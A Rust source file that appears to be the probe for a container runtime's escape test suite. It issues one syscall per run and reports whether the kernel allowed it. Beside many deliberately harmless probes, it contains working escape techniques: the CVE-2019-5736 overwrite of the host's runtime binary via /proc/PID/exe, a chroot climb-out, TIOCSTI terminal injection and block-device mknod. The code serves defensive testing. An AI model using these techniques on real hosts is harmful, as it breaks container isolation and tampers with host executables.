//! The escape suite's probe: one attempt per run, inside a container, printing what the kernel
//! answered ("ok" or the errno's name). Built by tests/escape.rs as a static musl binary with
//! std alone (no crates), so it runs in the busybox rootfs. x86_64 syscall numbers.

use std::ffi::CString;

unsafe extern "C" {
    fn syscall(n: i64, ...) -> i64;
}

fn c(s: &str) -> CString {
    CString::new(s).unwrap()
}

fn errno_name(e: i32) -> String {
    let names = [
        (1, "EPERM"),
        (2, "ENOENT"),
        (3, "ESRCH"),
        (6, "ENXIO"),
        (8, "ENOEXEC"),
        (9, "EBADF"),
        (13, "EACCES"),
        (14, "EFAULT"),
        (16, "EBUSY"),
        (17, "EEXIST"),
        (19, "ENODEV"),
        (22, "EINVAL"),
        (25, "ENOTTY"),
        (26, "ETXTBSY"),
        (30, "EROFS"),
        (38, "ENOSYS"),
        (126, "ENOKEY"),
    ];
    match names.iter().find(|(n, _)| *n == e) {
        Some((_, name)) => name.to_string(),
        None => format!("errno {e}"),
    }
}

/// "ok" for a non-negative result, else the errno's name.
fn answer(r: i64) -> String {
    if r >= 0 {
        "ok".into()
    } else {
        errno_name(std::io::Error::last_os_error().raw_os_error().unwrap_or(0))
    }
}

/// Appends one line to the log file `path`.
fn log(path: &str, line: &str) {
    use std::io::Write;
    let mut f = std::fs::OpenOptions::new().create(true).append(true).open(path).unwrap();
    writeln!(f, "{line}").unwrap();
}

/// The write of CVE-2019-5736: opens `/proc/self/fd/FD` (a file held read-only) for writing,
/// retrying while it is busy (ETXTBSY) for `secs`, and writes over its first bytes. Logs
/// `exe=<what the fd names> open=<answer> write=<answer>`.
fn overwrite(fd: i64, secs: u64, log_path: &str) {
    let path = format!("/proc/self/fd/{fd}");
    let exe = std::fs::read_link(&path).map(|p| p.display().to_string()).unwrap_or_default();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(secs);
    loop {
        // SAFETY: a NUL-terminated path; O_WRONLY.
        let w = unsafe { syscall(2, c(&path).as_ptr(), 1i64) };
        if w >= 0 {
            // SAFETY: writes 5 bytes from a static buffer.
            let r = unsafe { syscall(1, w, b"PWNED".as_ptr(), 5i64) };
            log(log_path, &format!("exe={exe} open=ok write={}", answer(r)));
            return;
        }
        let e = std::io::Error::last_os_error().raw_os_error().unwrap_or(0);
        if e != 26 || std::time::Instant::now() > deadline {
            log(log_path, &format!("exe={exe} open={}", errno_name(e)));
            return;
        }
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let arg = |i: usize| args.get(i).cloned().unwrap_or_default();
    let null = std::ptr::null::<u8>();
    // SAFETY (all calls): arguments are valid pointers, NULL, or numbers; each call is chosen
    // to do nothing harmful even when it is allowed (invalid sizes, unknown names, bad fds).
    let r = unsafe {
        match arg(0).as_str() {
            "kexec_load" => syscall(246, 0i64, 1000i64, null, 0i64),
            "init_module" => syscall(175, null, 0i64, c("").as_ptr()),
            "finit_module" => syscall(313, -1i64, c("").as_ptr(), 0i64),
            "delete_module" => syscall(176, c("nsbox_no_such_module").as_ptr(), 0o4000i64),
            "bpf" => syscall(321, 9999i64, null, 0i64),
            "perf_event_open" => syscall(298, null, 0i64, -1i64, -1i64, 0i64),
            "keyctl" => syscall(250, 0i64, -3i64, 0i64),
            "add_key" => syscall(248, c("nsbox-none").as_ptr(), c("x").as_ptr(), null, 0i64, -2i64),
            "open_by_handle_at" => syscall(304, -1i64, null, 0i64),
            "userfaultfd" => syscall(323, 3i64),
            "mount" => syscall(165, c("none").as_ptr(), c("/tmp").as_ptr(), c("tmpfs").as_ptr(), 0i64, null),
            "umount" => syscall(166, c("/proc").as_ptr(), 2i64),
            "pivot_root" => syscall(155, c("/").as_ptr(), c("/").as_ptr()),
            "unshare_user" => syscall(272, 0x1000_0000i64),
            "setns" => syscall(308, -1i64, 0i64),
            "clone_user" => {
                // clone(CLONE_NEWUSER|SIGCHLD) without a new stack: fork-like.
                let pid = syscall(56, 0x1000_0000i64 | 17, 0i64, 0i64, 0i64, 0i64);
                if pid == 0 {
                    std::process::exit(0);
                }
                pid
            }
            "clone3" => {
                let args = [0u64; 11];
                let pid = syscall(435, args.as_ptr(), 88i64);
                if pid == 0 {
                    std::process::exit(0);
                }
                pid
            }
            "tiocsti" => {
                // Push one character into the input of the terminal on fd 0, if it is one.
                let ch = b'x';
                syscall(16, 0i64, 0x5412i64, &ch as *const u8)
            }
            "personality" => syscall(135, 0x0040_0000i64),
            "x32_getpid" => syscall(0x4000_0000 + 39),
            "mknod_block" => {
                // mknod PATH b MAJOR MINOR
                let (major, minor): (u64, u64) = (arg(2).parse().unwrap(), arg(3).parse().unwrap());
                let dev = (major << 8) | minor | ((minor & !0xff) << 12);
                syscall(133, c(&arg(1)).as_ptr(), 0o60600i64, dev)
            }
            "open" => syscall(2, c(&arg(1)).as_ptr(), 0i64),
            "chroot_escape" => {
                // The classic: chroot into a subdirectory while the cwd stays outside, climb
                // with '..', chroot there. Prints "escaped" if arg(1) (a host path) is seen.
                let _ = std::fs::create_dir("/tmp/escape-dir");
                if syscall(161, c("/tmp/escape-dir").as_ptr()) < 0 {
                    println!("chroot {}", answer(-1));
                    return;
                }
                for _ in 0..64 {
                    syscall(80, c("..").as_ptr());
                }
                syscall(161, c(".").as_ptr());
                let seen = std::path::Path::new(&arg(1)).exists();
                println!("{}", if seen { "escaped" } else { "contained" });
                return;
            }
            "subreaper" => {
                // As conmon and containerd's shim: a subreaper that runs `CMD ARGS...` (an OCI
                // create), says how it ended, then reaps what it inherited: `reaped PID SIG`.
                syscall(157, 36i64, 1i64); // prctl(PR_SET_CHILD_SUBREAPER, 1)
                let ok = std::process::Command::new(arg(1))
                    .args(&args[2..])
                    .stdin(std::process::Stdio::null())
                    .status()
                    .map(|s| s.success())
                    .unwrap_or(false);
                println!("create {}", if ok { "ok" } else { "failed" });
                loop {
                    let mut status = 0i32;
                    let pid = syscall(61, -1i64, &mut status as *mut i32, 0i64, null);
                    if pid <= 0 {
                        break;
                    }
                    println!("reaped {pid} {}", status & 0x7f);
                }
                return;
            }
            "hold-exe" => {
                // Run as the ELF interpreter of a re-run nsbox (the image's ld.so): hold
                // /proc/self/exe open, start WRITER (this probe) with it, which overwrites the
                // file once nothing executes it. `wait`: stay until the writer is done.
                // hold-exe LOG WRITER SECS [wait]
                let fd = syscall(2, c("/proc/self/exe").as_ptr(), 0i64);
                if fd < 0 {
                    log(&arg(1), &format!("hold-exe open={}", answer(fd)));
                    return;
                }
                let mut writer = std::process::Command::new(arg(2));
                writer.args(["write-fd", &fd.to_string(), &arg(3), &arg(1)]);
                writer.stdin(std::process::Stdio::null()).stdout(std::process::Stdio::null());
                writer.stderr(std::process::Stdio::null());
                let mut child = writer.spawn().unwrap();
                if arg(4) == "wait" {
                    child.wait().unwrap();
                }
                std::process::exit(0);
            }
            "write-fd" => {
                overwrite(arg(1).parse().unwrap(), arg(2).parse().unwrap(), &arg(3));
                return;
            }
            "watch-exe" => {
                // Waits for a process named COMM, holds its /proc/PID/exe open, then
                // overwrites that file once nothing executes it. watch-exe COMM SECS LOG
                let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
                loop {
                    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
                        let dir = entry.path();
                        let comm = std::fs::read_to_string(dir.join("comm")).unwrap_or_default();
                        if comm.trim_end() != arg(1) {
                            continue;
                        }
                        let exe = c(&dir.join("exe").display().to_string());
                        let fd = syscall(2, exe.as_ptr(), 0i64);
                        if fd < 0 {
                            log(&arg(3), &format!("exe open={}", answer(fd)));
                            return;
                        }
                        log(&arg(3), "held");
                        overwrite(fd, arg(2).parse().unwrap(), &arg(3));
                        return;
                    }
                    if std::time::Instant::now() > deadline {
                        log(&arg(3), "never saw it");
                        return;
                    }
                    std::thread::sleep(std::time::Duration::from_millis(5));
                }
            }
            "icmp_raw" => syscall(41, 2i64, 3i64, 1i64),
            "ping_dgram" => {
                // An ICMP echo to 127.0.0.1 over a datagram ("ping") socket: "ok" once the
                // reply is back (the kernel fills the id and the checksum).
                let s = syscall(41, 2i64, 2i64, 1i64);
                if s < 0 {
                    println!("socket {}", answer(s));
                    return;
                }
                let timeout = [1i64, 0i64];
                syscall(54, s, 1i64, 20i64, timeout.as_ptr(), 16i64);
                let mut addr = [0u8; 16];
                addr[0] = 2;
                addr[4..8].copy_from_slice(&[127, 0, 0, 1]);
                let echo = [8u8, 0, 0, 0, 0, 0, 0, 1];
                if syscall(44, s, echo.as_ptr(), 8i64, 0i64, addr.as_ptr(), 16i64) < 0 {
                    println!("sendto {}", answer(-1));
                    return;
                }
                let mut reply = [0u8; 64];
                let n = syscall(45, s, reply.as_mut_ptr(), 64i64, 0i64, null, null);
                if n >= 8 && reply[0] == 0 { 0 } else { n.min(-1) }
            }
            "ids" => {
                let status = std::fs::read_to_string("/proc/self/status").unwrap();
                let line = |k: &str| {
                    status.lines().find(|l| l.starts_with(k)).unwrap_or("").split_whitespace().skip(1).collect::<Vec<_>>().join(" ")
                };
                println!("uid {} cap {} nnp {}", line("Uid:"), line("CapEff:"), line("NoNewPrivs:"));
                return;
            }
            other => {
                eprintln!("probe: unknown case {other:?}");
                std::process::exit(2);
            }
        }
    };
    println!("{}", answer(r));
}
